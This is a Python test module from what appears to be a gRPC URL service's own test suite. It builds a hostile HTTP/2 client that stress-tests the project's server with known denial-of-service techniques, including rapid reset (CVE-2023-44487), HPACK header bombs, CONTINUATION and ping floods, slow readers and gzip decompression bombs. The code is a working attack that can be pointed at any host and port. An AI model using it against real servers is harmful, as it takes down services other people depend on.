"""One hostile HTTP/2 client as a program: `python -m tests.promises.hostile_client HOST:PORT NAME SECONDS`.

It attacks until the time is over, reconnects whenever the server closes the connection, and prints the number of
connections.
The attacks in `PACED` send 1 MB a second, all others as fast as they can.
"""

import asyncio
import contextlib
import gzip
import os
import struct
import sys
import time
from collections.abc import Awaitable, Callable

from tests.promises.raw_grpc_client import PREFACE, SETTINGS, block, frame

PATH = "/url.URLService/GetURL"
LIST = "/url.URLService/ListURLs"
HEADERS, DATA, PRIORITY, RST_STREAM, PING, WINDOW_UPDATE, CONTINUATION = 1, 0, 2, 3, 6, 8, 9
BODY = struct.pack(">BI", 0, 9) + b"\n\x07unknown"
GREETING = PREFACE + frame(SETTINGS, 0, 0)
NO_LIMIT = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, (1 << 31) - 1))
NO_WINDOW = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
REQUEST = block(PATH)
LISTING = block(LIST)
LIST_BODY = struct.pack(">BI", 0, 9) + b"\x08\xe8\x07\x1a\x04many"
"""ListURLs of the owner "many", 1,000 of them."""

Connections = tuple[int, bytes, bytes]
"""How many at once, what each sends first, and what it sends again and again."""


def resets() -> bytes:
    """Calls that are reset at once (CVE-2023-44487), on numbers that fit one connection."""
    return b"".join(
        frame(HEADERS, 4, number, REQUEST) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
        for number in range(1, 20_001, 2)
    )


def made_resets() -> bytes:
    """Calls whose frames make the server reset them (CVE-2025-8671): a window update of nothing."""
    return b"".join(
        frame(HEADERS, 4, number, REQUEST) + frame(WINDOW_UPDATE, 0, number, bytes(4)) for number in range(1, 20_001, 2)
    )


def slow_readers() -> bytes:
    """A hundred calls with large answers, none of which is ever read."""
    return b"".join(
        frame(HEADERS, 4, number, LISTING) + frame(DATA, 1, number, LIST_BODY) for number in range(1, 200, 2)
    )


def header_bomb() -> bytes:
    """A table entry of 4,000 bytes, referred to 16,000 times in one block."""
    entry = b"\x40\x01x" + b"\x7f" + bytes([0x81, 0x1E]) + b"a" * 4000
    return frame(HEADERS, 4, 1, REQUEST + entry + b"\xbe" * 11_000)


ATTACKS: dict[str, Connections] = {
    "pings": (1, GREETING, frame(PING, 0, 0, bytes(8)) * 3000),
    "settings": (1, GREETING, frame(SETTINGS, 0, 0, struct.pack(">HIHI", 4, 70_000, 4, 80_000)) * 3000),
    "rapid reset": (1, GREETING, resets()),
    "made resets": (1, GREETING, made_resets()),
    "continuations": (1, GREETING + frame(HEADERS, 0, 1), frame(CONTINUATION, 0, 1, b"\0\1a\1b") * 3000),
    "empty continuations": (1, GREETING + frame(HEADERS, 0, 1), frame(CONTINUATION, 0, 1) * 3000),
    "empty data": (1, GREETING + frame(HEADERS, 4, 1, REQUEST), frame(DATA, 0, 1) * 3000),
    "priorities": (1, GREETING, frame(PRIORITY, 0, 1, bytes(5)) * 3000),
    "window updates": (1, GREETING + frame(HEADERS, 4, 1, REQUEST), frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1") * 3000),
    "unknown frames": (1, GREETING, frame(200, 0, 0) * 3000),
    "header bomb": (1, GREETING, header_bomb()),
    "slow readers": (20, NO_WINDOW + slow_readers(), b""),
    "silent readers": (300, NO_WINDOW + frame(HEADERS, 4, 1, LISTING) + frame(DATA, 1, 1, LIST_BODY), b""),
    "unread pings": (5, GREETING, frame(PING, 0, 0, bytes(8)) * 3000),
    "half messages": (
        20,
        GREETING
        + b"".join(
            frame(HEADERS, 4, number, REQUEST) + frame(DATA, 0, number, struct.pack(">BI", 0, 1 << 20) + bytes(2000))
            for number in range(1, 200, 2)
        ),
        b"",
    ),
    "no preface": (500, b"", b""),
    "half a preface": (500, PREFACE[:10], b""),
}
INFLATED = gzip.compress(bytes(256 * 1024), 9)
PACKED = struct.pack(">BI", 1, len(INFLATED)) + INFLATED
GZIPPED = block(PATH, [("grpc-encoding", "gzip")])
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
ASKED = b"\x22\x0eurl.URLService"
QUESTIONS = (struct.pack(">BI", 0, len(ASKED)) + ASKED) * 700
UNKNOWN_FIELDS = struct.pack(">BI", 0, 16_000) + b"\x78\0" * 8000


def heads(number: int, fields: bytes, *, end: bool = False) -> bytes:
    """A header block of any length."""
    parts = [fields[start : start + 16_384] for start in range(0, len(fields), 16_384)]
    last = len(parts) - 1
    return b"".join(
        frame(CONTINUATION if index else HEADERS, 4 * (index == last) | (end and not index), number, part)
        for index, part in enumerate(parts)
    )


def call(number: int, head: bytes, body: bytes) -> bytes:
    return heads(number, head) + frame(DATA, 1, number, body)


PACED: dict[str, Callable[[int], bytes]] = {
    "indexed fields": lambda number: heads(number, b"\x82" * 32_768),
    "inserted fields": lambda number: heads(number, b"\x40\x01x\x01y" * 6500),
    "Huffman strings": lambda number: heads(number, b"\0\x01x\xff\xe6\xfe\x01" + b"\0" * 32_725),
    "header bombs": lambda number: heads(number, REQUEST + b"\x40\x01x\x7f\x81\x1e" + b"a" * 4000 + b"\xbe" * 9000),
    "trailers": lambda number: heads(number, REQUEST) + heads(number, b"\x82" * 16_000, end=True),
    "calls with many fields": lambda number: call(number, REQUEST + b"\0\x01a\0" * 460, BODY),
    "calls that insert fields": lambda number: call(number, REQUEST + b"\x40\x01x\x01y" * 440, BODY),
    "calls with Huffman strings": lambda number: call(number, REQUEST + b"\0\x01x\xff\xa9\x45" + b"\0" * 9000, BODY),
    "many gzip messages": lambda number: call(number, GZIPPED, PACKED * (16_384 // len(PACKED))),
    "one gzip message a call": lambda number: call(number, GZIPPED, PACKED),
    "a stream of gzip messages": lambda number: call(
        number, block(REFLECTION, [("grpc-encoding", "gzip")]), PACKED * (16_384 // len(PACKED))
    ),
    "questions to reflection": lambda number: call(number, block(REFLECTION), QUESTIONS),
    "messages too large": lambda number: heads(number, REQUEST) + frame(DATA, 0, number, b"\0\x7f\0\0\0"),
    "unknown fields": lambda number: call(number, REQUEST, UNKNOWN_FIELDS),
    "malformed messages": lambda number: call(number, REQUEST, b"\0\0\0\0\x02\x0a\xff"),
    "unknown methods": lambda number: call(number, block("/no/such"), BODY),
    "calls": lambda number: call(number, REQUEST, BODY),
}
"""What one connection sends at `PACE` bytes a second, by the number of the stream."""
PACE = 1_000_000
LEAST_SECONDS = 0.2
"""What a connection lasts on a machine that is too busy to connect in time."""
READS = frozenset((*ATTACKS, *PACED)) - {"slow readers", "silent readers", "unread pings"}
NAMES = (*ATTACKS, *PACED)


async def attack(address: str, name: str, seconds: float) -> int:
    """Attack; return how many connections it took."""
    end = time.monotonic() + seconds
    if name in PACED:
        return await _attack_until(address, name, NO_LIMIT, PACED[name], end)
    count, first, again = ATTACKS[name]
    return sum(await asyncio.gather(*(_attack_until(address, name, first, again, end) for _ in range(count))))


async def _attack_until(
    address: str, name: str, first: bytes, again: bytes | Callable[[int], bytes], end: float
) -> int:
    host, _, port = address.rpartition(":")
    connections = 0
    while not connections or time.monotonic() < end:
        with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(host, int(port))
            connections += 1
            try:
                async with asyncio.timeout(max(end - time.monotonic(), LEAST_SECONDS)):
                    await _one(reader, writer, first, again, reads=name in READS)
            finally:
                writer.transport.abort()
    return connections


async def _one(
    reader: asyncio.StreamReader,
    writer: asyncio.StreamWriter,
    first: bytes,
    again: bytes | Callable[[int], bytes],
    *,
    reads: bool,
) -> None:
    async def read() -> None:
        while got := await reader.read(65_536):
            if callable(again):
                writer.write(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(got))))

    async def write() -> None:
        writer.write(first)
        await writer.drain()
        while again:
            if callable(again):
                await _paced(writer, again)
            else:
                writer.write(again)
                await writer.drain()

    tasks: list[Awaitable[None]] = [write(), *([read()] if reads else [])]
    await asyncio.gather(*tasks)
    if not reads:
        await asyncio.sleep(3600)


async def _paced(writer: asyncio.StreamWriter, make: Callable[[int], bytes]) -> None:
    started, sent = time.monotonic(), 0
    for number in range(1, 1 << 30, 2):
        part = make(number)
        writer.write(part)
        await writer.drain()
        sent += len(part)
        if (ahead := sent / PACE - (time.monotonic() - started)) > 0:
            await asyncio.sleep(ahead)


if __name__ == "__main__":
    os.nice(5)  # it stands for another machine: what it takes of ours is not the server's to bear
    start: Callable[[], int] = lambda: asyncio.run(attack(sys.argv[1], sys.argv[2], float(sys.argv[3])))  # noqa: E731 - one line
    print(start())  # noqa: T201 - this is a program
